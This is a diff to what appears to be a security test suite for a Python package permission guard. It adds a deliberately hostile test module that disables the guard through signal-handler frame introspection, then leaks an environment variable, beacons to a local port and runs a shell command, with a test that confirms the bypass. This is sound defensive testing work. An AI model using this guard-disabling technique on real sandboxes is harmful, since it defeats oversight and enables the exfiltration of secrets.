@@ -214,6 +214,41 @@ EVIL = {
 
         def gi_frame():
             return _pool(_posixsubprocess.fork_exec)[-1].gi_frame.f_locals["real"]
+
+        def _switch_off(frame):
+            # from a frame inside the guard's hook: its event table, cleared
+            while frame is not None and "_get" not in frame.f_locals:
+                frame = frame.f_back
+            if frame is None:
+                return False
+            frame.f_locals["_get"].__self__.clear()
+            return True
+
+        def switch_off(port, marker):
+            import signal, _signal, _socket, time
+            cells = dict(zip(_signal.signal.__code__.co_freevars, _signal.signal.__closure__))
+            real_signal = _locals(cells["set_real"].cell_contents)["real"]
+            done = []
+            def on_alarm(signum, frame):  # not wrapped: run in whatever frame it lands
+                if not done and _switch_off(frame):
+                    done.append(True)
+            real_signal(signal.SIGALRM, on_alarm)
+            signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
+            end = time.monotonic() + 5
+            while time.monotonic() < end and not done:
+                try:
+                    open("/etc/hostname").close()
+                except OSError:
+                    pass
+            signal.setitimer(signal.ITIMER_REAL, 0)
+            print("OFF", bool(done))
+            print("LEAK", os.environ["TARGET_URL"])
+            s = _socket.socket()
+            s.connect(("127.0.0.1", port))
+            s.sendall(b"GET /beacon?off HTTP/1.0\\r\\n\\r\\n")
+            s.recv(10)
+            s.close()
+            os.system("echo x > " + marker)
         """,
     "evil/prims.py": """\
         import _multiprocessing
@@ -576,6 +611,23 @@ def test_the_real_functions_behind_the_guards_replacements(
             grant='["fs-write"]', enforce=True)
     took_effect(marker.exists(), o)
     assert ("evil", capability) in o.used
+
+
+@bypass5("guard tampering", "the same route to the real _signal.signal (the closure of the "
+         "guard's replacement holds its vault): a handler installed with it is not deferred "
+         "while the guard runs, so a timer lands one inside the hook, whose frame reaches the "
+         "event table (f_locals['_get'].__self__), cleared: the guard is off for the process "
+         "(env, network and a process, no report, enforce mode); fix: as above (no frame "
+         "of a replacement's generator may reach the collector's garbage list)")
+def test_the_real_signal_function_switches_the_guard_off(
+        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
+    marker = tmp_path / "marker"
+    o = run(tmp_path, run_permpip, python, "import evil.vault\n"
+            f"evil.vault.switch_off({target.port}, {str(marker)!r})\n", target=target,
+            enforce=True)
+    took_effect("OFF True" in o.output and f"LEAK {target.url}" in o.output and
+                target.requests == ["/beacon?off"] and marker.exists(), o)
+    assert {("evil", "env"), ("evil", "network"), ("evil", "subprocess")} <= set(o.used)
 
 
 def test_the_generator_frame_of_a_replacement_is_introspection(
